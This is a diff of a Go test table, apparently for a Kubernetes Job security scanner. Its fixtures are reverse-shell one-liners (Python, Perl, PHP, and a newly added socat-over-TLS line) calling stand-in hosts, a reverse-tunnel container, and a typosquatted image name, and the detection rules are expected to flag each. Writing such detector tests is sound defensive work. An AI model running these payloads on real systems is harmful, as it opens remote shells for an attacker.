@@ -132,6 +132,12 @@ func TestRules(t *testing.T) {
 		{name: "python socket", obj: job(argv("python", "-c", `import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.10",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`)), rule: "JW-EXEC-002", min: SeverityHigh},
 		{name: "perl socket", obj: job(argv("perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("203.0.113.10")))){open(STDIN,">&S");exec("/bin/sh -i");};`)), rule: "JW-EXEC-002", min: SeverityHigh},
 		{name: "php fsockopen", obj: job(argv("php", "-r", `$s=fsockopen("203.0.113.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");`)), rule: "JW-EXEC-002", min: SeverityHigh},
+		{name: "socat over TLS", obj: job(sh("socat OPENSSL:c2.example.net:8443,verify=0 EXEC:'bash -li',pty,stderr")), rule: "JW-EXEC-002", min: SeverityHigh},
+		{name: "entrypoint named after the image", obj: job(image("docker.io/gogost/gost:3.0.0"), func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers[0].Args = []string{"-L", "rtcp://0.0.0.0:10800/127.0.0.1:1080"}
+		}), rule: "JW-NET-001", min: SeverityHigh},
+		{name: "typosquat on quay.io", obj: job(image("quay.io/prometheus/node-exporterr:v1.8.1")), rule: "JW-IMG-002", min: SeverityHigh},
+		{name: "real quay.io image", obj: job(image("quay.io/prometheus/node-exporter:v1.8.1")), notRule: []string{"JW-IMG-002"}},
 		{name: "nc port check is fine", obj: job(image("busybox:1.36"), sh("until nc -z postgres.db.svc 5432; do sleep 2; done")), notRule: []string{"JW-EXEC-002"}, max: SeverityLow},
 
 		// JW-EXEC-003 encoded payloads.
